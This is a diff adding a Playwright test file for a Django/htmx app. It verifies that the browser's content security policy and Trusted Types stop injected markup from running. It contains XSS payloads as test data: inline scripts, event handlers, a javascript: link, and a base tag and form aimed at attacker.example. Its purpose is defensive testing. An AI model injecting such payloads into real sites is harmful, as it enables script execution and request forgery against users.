@@ -1,0 +1,155 @@
+"""Were a page to print a stranger's words unescaped after all: what the browser and htmx still hold back.
+
+The words are put into the answer on its way to the browser, with the headers that the server sent: what a template with
+a mistake in it would do.
+"""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from playwright.sync_api import expect
+
+from accounts.models import Invitation
+from tests import refusals
+from tests.browsing import enter
+from tests.hostile import INVITATION
+from tests.people import Cast
+
+pytestmark = [pytest.mark.journey, pytest.mark.django_db(transaction=True)]
+
+EXPORTS = "/m/cuprija/settings/export/"
+SCRIPTS = """
+<script>document.documentElement.dataset.ran = "inline"</script>
+<img src="/nothing.png" onerror="document.documentElement.dataset.ran = 'handler'">
+<svg onload="document.documentElement.dataset.ran = 'svg'"></svg>
+<a id="link" href="javascript:document.documentElement.dataset.ran='address'">here</a>
+<script src="/static/js/theme.js?of-a-stranger"></script>
+<script type="module" src="/static/vendor/htmx.min.js?of-a-stranger"></script>
+<base href="https://attacker.example/">
+<iframe srcdoc="<script>parent.document.documentElement.dataset.ran = 'frame'</script>"></iframe>
+"""
+
+
+def misprinted(page: Any, path: str, words: str) -> list[str]:
+    """From now on the page at `path` has these words at the end of its content; gives the requests as they are made."""
+    asked: list[str] = []
+
+    def print_raw(route: Any) -> None:
+        answer = route.fetch()
+        route.fulfill(response=answer, body=answer.text().replace("</main>", f"{words}</main>", 1))
+
+    page.route(f"**{path}", print_raw)
+    # What the policy stops is announced as a request and never sent.
+    page.on("requestfinished", lambda request: asked.append(f"{request.method} {request.url}"))
+    return asked
+
+
+@pytest.fixture
+def attacked() -> Any:
+    """The refusals of the test are what it is about."""
+    yield refusals.take
+    refusals.take()
+
+
+def test_words_that_are_htmx_and_a_script_invite_nobody(page: Any, live_server: Any, cast: Cast, attacked: Any) -> None:
+    enter(page, live_server, cast.approver)
+    asked = misprinted(page, EXPORTS, INVITATION)
+    page.goto(live_server.url + EXPORTS)
+    expect(page.locator("i[hx-post]")).to_have_count(1)
+    assert page.evaluate("typeof htmx") == "object"  # the page's own htmx is there and has looked through it
+    page.evaluate("htmx.process(document.body)")
+    page.wait_for_timeout(1000)
+    assert [each for each in asked if each.startswith("POST")] == []
+    assert Invitation.objects.count() == 0
+    assert any("script" in each for each in attacked())
+
+
+@pytest.mark.parametrize("mark", ["", "data-htmx=guessed", "data-hx-boost=true hx-disinherit=x"])
+def test_htmx_passes_over_elements_of_strangers(
+    page: Any, live_server: Any, cast: Cast, attacked: Any, mark: str
+) -> None:
+    words = (
+        f'<div {mark} hx-get="/m/cuprija/members/" hx-trigger="load" hx-target="body" hx-swap="beforeend"></div>'
+        f'<form {mark} action="/m/cuprija/members/invite/" method="post" hx-boost="true">'
+        '<button id="go">x</button></form>'
+        f'<p {mark} data-hx-post="/m/cuprija/members/invite/" data-hx-trigger="load" hx-on:click="alert(1)">x</p>'
+    )
+    enter(page, live_server, cast.approver)
+    asked = misprinted(page, EXPORTS, words)
+    page.goto(live_server.url + EXPORTS)
+    expect(page.locator("#go")).to_be_visible()
+    page.wait_for_timeout(800)
+    assert [each for each in asked if "/members/" in each] == []
+
+
+def test_no_script_of_a_stranger_runs(page: Any, live_server: Any, cast: Cast, attacked: Any) -> None:
+    enter(page, live_server, cast.approver)
+    asked = misprinted(page, EXPORTS, SCRIPTS)
+    page.goto(live_server.url + EXPORTS)
+    page.evaluate("document.getElementById('link').click()")
+    page.wait_for_timeout(800)
+    assert page.evaluate("document.documentElement.dataset.ran") is None
+    assert [each for each in asked if "of-a-stranger" in each or "attacker" in each] == []
+    assert len(attacked()) >= 5
+
+
+def test_a_form_of_a_stranger_leads_nowhere_else(page: Any, live_server: Any, cast: Cast, attacked: Any) -> None:
+    enter(page, live_server, cast.approver)
+    words = '<form action="https://attacker.example/" method="post"><input name="x"><button id="go">x</button></form>'
+    asked = misprinted(page, EXPORTS, words)
+    page.goto(live_server.url + EXPORTS)
+    page.evaluate("document.getElementById('go').click()")
+    page.wait_for_timeout(500)
+    assert [each for each in asked if "attacker" in each] == []
+    assert page.url == live_server.url + EXPORTS
+    assert any("form-action" in each for each in attacked())
+
+
+TO_MARKUP = {
+    "innerHTML": "document.body.innerHTML = '<b>x</b>'",
+    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
+    "document.write": "document.write('<b>x</b>')",
+    "a script's address": "Object.assign(document.createElement('script'), { src: '/static/js/theme.js' })",
+    "a script's text": "Object.assign(document.createElement('script'), { text: 'x' })",
+    "srcdoc": "Object.assign(document.createElement('iframe'), { srcdoc: 'x' })",
+    "another policy": "trustedTypes.createPolicy('own', { createHTML: (text) => text })",
+    "the same policy again": "trustedTypes.createPolicy('portal', { createHTML: (text) => text })",
+}
+PARSES = "new DOMParser().parseFromString('<b>x</b>', 'text/html')"
+
+
+@pytest.mark.parametrize("way", TO_MARKUP)
+@pytest.mark.parametrize("path", [EXPORTS, "/m/cuprija/calendar/"])
+def test_no_script_makes_markup_of_text(
+    page: Any, live_server: Any, cast: Cast, attacked: Any, path: str, way: str
+) -> None:
+    enter(page, live_server, cast.approver)
+    page.goto(live_server.url + path)
+    page.wait_for_load_state("load")
+    caught = page.evaluate(f"() => {{ try {{ {TO_MARKUP[way]}; }} catch (error) {{ return error.name; }} }}")
+    assert caught == "TypeError"
+
+
+def test_only_pages_with_htmx_parse_text_without_our_module(
+    page: Any, live_server: Any, cast: Cast, attacked: Any
+) -> None:
+    enter(page, live_server, cast.approver)
+    tried = f"() => {{ try {{ return {PARSES}.body.textContent; }} catch (error) {{ return error.name; }} }}"
+    for path, expected in ((EXPORTS, "x"), ("/m/cuprija/calendar/", "TypeError")):
+        page.goto(live_server.url + path)
+        page.wait_for_load_state("load")
+        assert page.evaluate(tried) == expected, path
+
+
+def test_nothing_of_the_page_stays_in_the_storage_of_the_browser(page: Any, live_server: Any, cast: Cast) -> None:
+    enter(page, live_server, cast.approver)
+    page.goto(live_server.url + EXPORTS)
+    page.get_by_role("button", name="Put the file together").click()
+    page.wait_for_load_state("load")
+    page.wait_for_timeout(3500)  # htmx has asked once
+    page.goto(f"{live_server.url}/m/cuprija/inbox/")
+    stored = page.evaluate("Object.entries({...localStorage, ...sessionStorage})")
+    # The address of the last page with htmx, as long as the tab is open: it needs no words to say it.
+    assert [each for each in stored if "htmx" in each[0]] == [["htmx-current-path-for-history", EXPORTS]]
